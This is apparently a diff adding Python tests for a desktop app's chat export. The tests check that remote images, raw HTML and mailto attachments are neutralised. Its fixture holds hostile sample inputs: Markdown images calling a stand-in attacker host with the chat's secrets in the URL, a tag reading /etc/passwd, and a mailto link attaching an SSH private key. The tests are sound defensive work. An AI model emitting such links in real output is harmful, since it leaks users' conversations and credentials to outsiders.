@@ -1,0 +1,53 @@
+"""An exported chat loads nothing and acts on nothing when it is viewed: a remote image the model wrote (its
+address can carry the chat's words to a stranger's server) becomes a link, raw HTML stays text, and a mailto:
+link loses attach=. Code keeps what it holds. Copy gives the Markdown as the model wrote it."""
+
+from __future__ import annotations
+
+import re
+
+import markdown
+
+from tinyrag_desktop.chat_export import answer_markdown, export_html, export_markdown
+from tinyrag_desktop.chats import ChatInfo, StoredMessage
+
+LEAK = "http://attacker.example/leak.png?d=SECRET"
+HOSTILE = (f"See ![chart]({LEAK}) and ![]({LEAK}) and [![badge]({LEAK})](https://example.org/).\n\n"
+           '<img src="file:///etc/passwd" width=99999> <script>alert(1)</script> <span style="x">s</span>\n\n'
+           "Write to [us](mailto:help@example.org?subject=Logs&attach=/home/me/.ssh/id_rsa).\n\n"
+           "```html\n<script>kept()</script>\n![in code](http://in.code/x.png)\n```\n\n"
+           "Use `<img src=x>` and List<String>, or <https://example.org/>. A \\![not an image](u).")
+
+
+def _chat() -> tuple[ChatInfo, list[StoredMessage]]:
+    return ChatInfo("c", "Chat", "", 0, 0), [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", HOSTILE)]
+
+
+def _elements(page: str, tag: str) -> list[str]:
+    return re.findall(rf"<{tag}\b[^>]*>", page, re.I)
+
+
+def test_the_html_export_shows_images_as_links_and_loads_none():
+    page = export_html(*_chat())
+    assert _elements(page, "img") == []
+    assert f'<a href="{LEAK.replace("&", "&amp;")}">Image: chart</a>' in page
+    assert "attach" not in page and 'href="mailto:help@example.org?subject=Logs"' in page
+
+
+def test_the_markdown_export_loads_nothing_when_viewed():
+    for text in (export_markdown(*_chat()),):
+        viewed = markdown.markdown(text, extensions=["fenced_code"])  # a viewer that renders raw HTML
+        assert _elements(viewed, "img") == [] and _elements(viewed, "script") == []
+        assert _elements(viewed, "span") == []
+        assert f'href="{LEAK.replace("&", "&amp;")}"' in viewed  # the image is a link to its address
+        assert "attach" not in text and "mailto:help@example.org?subject=Logs" in text
+        # the model's words are all there, as text
+        assert '`<img src="file:///etc/passwd" width=99999>`' in text and "`<script>`alert(1)`</script>`" in text
+        # code as written: a fenced block's lines, a code span, an autolink
+        assert "```html\n<script>kept()</script>\n![in code](http://in.code/x.png)\n```" in text
+        assert "`<img src=x>`" in text and "<https://example.org/>" in text and "\\![not an image](u)" in text
+
+
+def test_copy_gives_the_answers_markdown_as_written():
+    # pasted where its text is seen (a note, a message): the model's Markdown, images and all
+    assert answer_markdown(_chat()[1][1]) == HOSTILE + "\n"
